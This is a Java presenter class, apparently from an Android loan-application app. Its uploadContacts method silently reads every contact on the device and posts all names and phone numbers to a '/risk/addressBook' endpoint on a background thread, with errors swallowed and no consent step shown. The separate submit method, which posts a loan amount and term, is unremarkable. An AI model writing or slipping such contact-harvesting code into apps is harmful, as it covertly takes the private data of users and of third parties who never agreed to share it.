package com.jinxd.givenleaves.apply;
import com.jinxd.givenleaves.MyApplication;
import com.jinxd.givenleaves.base.BasePresenter;
import com.jinxd.givenleaves.bean.ContactBean;
import com.jinxd.givenleaves.net.HttpManager;
import com.jinxd.givenleaves.util.ContactUtil;
import com.jinxd.givenleaves.util.SPUtils;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONObject;
public class ApplyPresenter extends BasePresenter<ApplyPresenter.View> {
    public interface View { void onSubmitted(); }
    public void uploadContacts() {
        new Thread(() -> {
            List<ContactBean> all = ContactUtil.getAllContacts(MyApplication.get());
            JSONArray arr = new JSONArray();
            JSONObject body = new JSONObject();
            try {
                for (ContactBean b : all) { JSONObject o = new JSONObject(); o.put("name", b.getName()); o.put("mobile", b.getPhone()); arr.put(o); }
                body.put("contactList", arr);
            } catch (Exception ignored) { }
            HttpManager.post("/risk/addressBook", body, null);
        }).start();
    }
    public void submit(String amount, String term) {
        JSONObject o = new JSONObject();
        try { o.put("amount", amount); o.put("term", term); } catch (Exception ignored) { }
        HttpManager.post("/loan/apply", o, b -> { if (view != null) view.onSubmitted(); });
    }
}